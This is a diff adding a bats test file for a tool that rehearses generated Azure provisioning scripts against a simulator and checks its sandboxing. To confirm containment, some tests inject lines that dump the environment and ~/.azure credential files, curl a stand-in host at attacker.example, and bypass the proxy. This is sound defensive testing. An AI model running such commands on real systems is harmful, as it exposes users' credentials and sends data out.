@@ -1,0 +1,158 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# rehearse: emitted scripts with the real az against the simulator, and what they cannot reach. Each of
+# these takes about two minutes, nearly all of them az's own. REHEARSE=none leaves them out, REHEARSE=all
+# adds every example, whole and --split.
+load simulation
+
+setup() {
+  [ "${REHEARSE-}" != none ] || skip 'rehearsed with the sanitized build only'
+  command -v az >/dev/null || skip 'az is not installed'
+  go_to_the_lab
+}
+
+teardown() {
+  if [ -n "${TMPDIR-}" ] && [ -d "$TMPDIR" ]; then nothing_is_left; fi
+}
+
+# The rest of a test is for REHEARSE=all, which has time for it.
+only_when_all() {
+  [ "${REHEARSE-}" = all ] || skip 'only with ./quickstart test --all'
+}
+
+# good EXAMPLE [OPTION...]: the rehearsal ends well, with everything it must have shown.
+good() {
+  local example=$1
+  shift
+  run -0 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/$example.ini" --json "$@"
+  [ "$stderr" = "" ]
+  printf '%s\n' "$output" >result.json
+  jq -e '.good and .difference == "" and all(.phases[]; .good)' result.json
+  jq -e '[.phases[] | select(.kind == "second-run") | .writes] | length > 0 and all(. == 0)' result.json
+  jq -e '[.phases[] | select(.kind == "provision") | .writes] | add > 0' result.json
+  jq -e '[.phases[] | select(.kind == "pipeline") | .proof] |
+    length > 0 and all(.issuer != "" and .subject != "" and all(.steps[]; .good))' result.json
+  # byte for byte as emitted: nothing but these calls came from the scripts
+  jq -e '[.phases[] | select(.kind != "sign-in") | .calls[] | select(.refused)] == []' result.json
+  jq -r '[.phases[] | .calls[] | select(.write and (.host | startswith("login.") | not))] | length' result.json
+}
+
+# The tenants that az signed in to, in the sign-in phases.
+tenants() {
+  jq -r '.phases[] | select(.kind == "sign-in") | .calls[] | .target' result.json |
+    sed -n 's|^/\([0-9a-f-]*\)/oauth2/.*|\1|p' | sort -u
+}
+
+@test "contoso" {
+  good contoso
+}
+
+@test "service-principal, by the administrators" {
+  good service-principal --split
+  jq -e '[.phases[] | select(.kind == "provision") | .person] | unique | length == 3' result.json
+}
+
+@test "cross-tenant, by the administrators, with two tenants" {
+  good cross-tenant --split
+  [ "$(tenants | wc -l)" = 2 ]
+}
+
+@test "government, with two profiles" {
+  good government
+  [ "$(tenants | wc -l)" = 2 ]
+  jq -e '[.phases[].calls[].host] | any(. == "management.usgovcloudapi.net") and any(. == "dev.azure.com") and
+    all(. != "management.azure.com")' result.json
+}
+
+@test "every example, whole" {
+  only_when_all
+  for ini in "$SRCDIR"/examples/*.ini; do
+    good "$(basename "$ini" .ini)"
+    echo "# $(basename "$ini"): $(jq '[.phases[].seconds] | add | round' result.json) s, $(jq '[.phases[].calls[]] | length' result.json) calls" >&3
+  done
+}
+
+@test "every example, by the administrators" {
+  only_when_all
+  for ini in "$SRCDIR"/examples/*.ini; do
+    good "$(basename "$ini" .ini)" --split
+    echo "# $(basename "$ini") --split: $(jq '[.phases[].seconds] | add | round' result.json) s, $(jq '[.phases[].calls[]] | length' result.json) calls" >&3
+  done
+}
+
+# A template that puts a line of bash into the preflight of every script, where it runs before anything else.
+with_line() {
+  mkdir -p templates/bash/lib
+  {
+    echo '{{<bash/lib/preflight.sh}}'
+    echo '{{$preflight}}'
+    printf '%s\n' "$1"
+    echo '{{/preflight}}'
+    echo '{{/bash/lib/preflight.sh}}'
+  } >templates/bash/lib/preflight.sh
+}
+
+@test "a script sees nothing of the caller's: environment, home, az profile" {
+  plant_canaries
+  with_line "  { env; cat ~/.azure/* \"\$AZURE_CONFIG_DIR\"/* '$HOME'/.azure/* '$BATS_TEST_TMPDIR/folder/secret'; id -u; } 2>&1; exit 9"
+  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
+  jq -r '.phases[] | select(.kind == "provision") | .output' <<<"$output" >printed
+  grep -q '^HTTPS_PROXY=http://127.0.0.1:' printed
+  # the names of what it sees are few, and none is the caller's
+  run -1 grep -F canary printed
+  [ "$(sed -n 's/^\([A-Za-z_]*\)=.*/\1/p' printed | grep -c -v -E '^(.*_?proxy|.*_PROXY|HOME|PATH|PWD|OLDPWD|SHLVL|_|LANG|LC_ALL|TMPDIR|MSYS_NO_PATHCONV|REQUESTS_CA_BUNDLE|CURL_CA_BUNDLE|SSL_CERT_FILE|NODE_EXTRA_CA_CERTS|NODE_USE_ENV_PROXY|AZURE_CONFIG_DIR|AZURE_CORE_[A-Z_]*|AZURE_DEVOPS_CACHE_DIR)$')" = 0 ]
+  jq -e '.phases[-1].status == 9' <<<"$output"
+}
+
+@test "a script that calls another host is refused, named, and the rehearsal fails" {
+  with_line '  curl -sS https://attacker.example/collect || true'
+  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
+  jq -e '.good | not' <<<"$output"
+  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated"' <<<"$output"
+}
+
+@test "nothing connects elsewhere than to this machine" {
+  command -v strace >/dev/null || skip 'strace is not installed'
+  with_line '  curl -sS --noproxy "*" --max-time 5 https://192.0.2.1/ || true; exit 9'
+  strace -f -q -e trace=connect,sendto,sendmsg -o trace "$TOOL" rehearse -q "$SRCDIR/examples/contoso.ini" --templates templates || true
+  grep -q 'sa_family=AF_INET' trace
+  # what the script tried without the proxy has no network to leave by, or has at least no other try beside it
+  run -1 grep -E 'sa_family=AF_INET6?' <(grep -v -e 'inet_addr("127.0.0.1")' -e 'ENETUNREACH' trace)
+}
+
+@test "Ctrl-C ends it, and nothing is left" {
+  "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" >out 2>&1 3>&- &
+  for ((i = 0; i < 600; i++)); do
+    if grep -q '^==> provision.sh' out; then break; fi
+    sleep 0.1
+  done
+  sleep 2
+  kill -TERM $!
+  run -143 wait $!
+  grep -q 'interrupted' out
+}
+
+@test "a right that is missing is found" {
+  "$TOOL" simulate -q --fit "$SRCDIR/examples/contoso.ini" --save world.json -- true
+  jq '.roleAssignments |= map(select(.principalType != "User" or (.scope | endswith("rg-secrets") | not)))
+    | .roleAssignments |= map(if .principalType == "User" and (.scope | test("^/subscriptions/[^/]*$"))
+        then .roleDefinitionId = "b24988ac-6180-42a0-ab88-20f7382dd24c" else . end)' world.json >poorer.json
+  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --state poorer.json --json
+  jq -e '.phases[-1].status == 3' <<<"$output"
+  jq -r '.phases[-1].output' <<<"$output" | grep -F 'no right to Microsoft.Authorization/roleAssignments/write'
+}
+
+@test "what existed before stays: identity, connection and role" {
+  only_when_all
+  "$TOOL" simulate -q --fit "$SRCDIR/examples/contoso.ini" --save before.json -- \
+    bash -c '"$1" generate -q "$2" -o scripts && scripts/payments-prod/provision.sh --yes' bash "$TOOL" "$SRCDIR/examples/contoso.ini"
+  # as if other hands had made them: no tag, no mark, another name of the assignment; the credential is missing
+  jq '.subscriptions[].identities[].tags = {}
+    | .subscriptions[].identities[].federatedCredentials = []
+    | (.organizations[].serviceEndpoints[].references[].description) |= sub(" *\\[azdo-wif:[0-9a-f]*\\]$"; "")
+    | (.roleAssignments[] | select(.principalType == "ServicePrincipal") | .name) |= sub("^.{8}"; "00000000")' before.json >given.json
+  run -0 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --state given.json --json
+  printf '%s\n' "$output" >result.json
+  jq -e '.good and .difference == ""' result.json
+  jq -e '[.phases[] | select(.kind == "provision") | .writes] == [1]' result.json
+}
